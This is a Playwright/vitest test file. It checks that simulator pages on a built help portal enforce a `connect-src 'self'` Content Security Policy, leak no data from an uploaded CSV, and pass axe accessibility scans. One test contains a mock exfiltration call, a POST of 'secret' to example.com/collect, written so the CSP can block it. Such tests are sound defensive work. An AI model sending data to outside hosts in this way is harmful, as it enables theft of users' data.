/**
 * The simulator on pages of a real portal build (not the island fixture): every page with a
 * simulator carries the Content Security Policy with `connect-src 'self'`, and the browser
 * enforces it (a script's request to another origin is refused) while the island, its worker,
 * own data and the site search still work; after a file is dropped the only requests are the
 * page's own script chunks; axe-core finds no violations on a page with each flavour.
 */
import { readFileSync } from 'node:fs';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningServer } from '../../src/site/static-server.ts';
import { launchBrowser, scanWithAxe } from './support/browser.ts';
import { buildSite, writeContentTree, type BuiltSite } from './support/fixture-site.ts';
import { startServer } from './support/site-server.ts';

const article = (title: string, body: string) => `---\ntitle: ${title}\n---\n\n# ${title}\n\n${body}\n`;
const SIMULATOR_PAGES = {
  superoffice: '/en/contacts/',
  erp: '/en/erp/',
  'exact-online': '/en/exact/',
} as const;

let built: BuiltSite;
let server: RunningServer;
let browser: BrowserContext;
const url = (route: string) => new URL(route.replace(/^\//, ''), server.url).href;

beforeAll(async () => {
  built = await buildSite({
    contentRoot: writeContentTree({
      'en/index.md': article('Help', 'Import settings, explained with simulators.'),
      'en/contacts.md': article('Duplicates', 'Try the duplicate settings.\n\n::simulator{name="import-settings" sample="contacts-en" company-action="merge"}'),
      'en/erp.md': article('ERP actors', 'Fetch actors from the ERP system.\n\n::simulator{name="import-settings" flavour="erp" sample="erp-nl"}'),
      'en/exact.md': article('Exact Online relations', 'Relations with codes.\n\n::simulator{name="import-settings" flavour="exact-online" sample="exact-nl"}'),
    }),
  });
  if (built.status !== 0) throw new Error(built.output);
  server = await startServer(built);
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

async function open(route: string): Promise<Page> {
  const page = await browser.newPage();
  await page.goto(url(route));
  await page.locator('.signpost-sim[data-ready]').waitFor();
  return page;
}

async function run(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Start', exact: true }).click();
  await page.locator('[data-run-status="done"]').waitFor();
}

describe('Content Security Policy on built simulator pages', () => {
  for (const route of Object.values(SIMULATOR_PAGES)) {
    it(`${route} declares connect-src 'self' in its head`, () => {
      const html = readFileSync(`${built.outDir}${route}index.html`, 'utf8');
      const head = html.slice(0, html.indexOf('</head>'));
      const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(head)?.[1].replace(/&#39;/g, "'");
      expect(policy?.split(';').map((part) => part.trim())).toContain("connect-src 'self'");
    });
  }

  it('is enforced: a request to another origin is refused, while the island and the search work', async () => {
    const page = await open(SIMULATOR_PAGES.superoffice);
    const refused = await page.evaluate(async () => {
      const violation = new Promise<string>((resolve) => document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true }));
      const request = fetch('https://example.com/collect', { method: 'POST', body: 'secret' }).then(() => 'sent', () => 'refused');
      return [await request, await violation];
    });
    expect(refused).toEqual(['refused', 'connect-src']);
    await run(page);
    expect(await page.locator('.signpost-sim__outcomes tr[data-outcome]').count()).toBeGreaterThan(0);
    await page.getByRole('searchbox').fill('relations');
    await expect.poll(() => page.locator('.sp-search__list a').evaluateAll((links) => links.map((a) => new URL((a as HTMLAnchorElement).href).pathname)), { timeout: 15_000 }).toContain(SIMULATOR_PAGES['exact-online']);
    await page.close();
  });

  it('after a file is dropped, the page requests only its own script chunks, with nothing of the file', async () => {
    const page = await open(SIMULATOR_PAGES.superoffice);
    const sent: string[] = [];
    page.on('request', (request) => sent.push(`${request.method()} ${request.url()} ${request.postData() ?? ''}`));
    const csv = 'company.name;company.city\nSecret Bakery;Utrecht\nConfidential Ltd;Ede\n';
    await page.locator('input[type="file"]').setInputFiles({ name: 'customers.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
    await expect.poll(() => page.locator('[data-own-status]').innerText()).toBe('Loaded 2 rows from customers.csv');
    await page.locator('select[data-setting="person-match"]').selectOption('none');
    await run(page);
    expect(await page.locator('.signpost-sim__outcomes tr[data-outcome]').count()).toBe(2);
    expect(sent.length).toBeGreaterThan(0);
    for (const request of sent) {
      expect(request).toMatch(new RegExp(`^GET ${url('/_astro/').replace(/\./g, '\\.')}[\\w.-]+\\.js $`));
      expect(request).not.toMatch(/Secret|Confidential/);
    }
    await page.close();
  });
});

describe('accessibility of built simulator pages', () => {
  for (const [flavour, route] of Object.entries(SIMULATOR_PAGES)) {
    it(`axe reports no violations on the ${flavour} simulator page, before and after a run`, async () => {
      const page = await open(route);
      // The island's own stylesheet is on the page (its grid layout).
      expect(await page.locator('.signpost-sim').evaluate((island) => getComputedStyle(island).display)).toBe('grid');
      expect(await scanWithAxe(page)).toEqual([]);
      await run(page);
      expect(await scanWithAxe(page)).toEqual([]);
      await page.close();
    });
  }
});
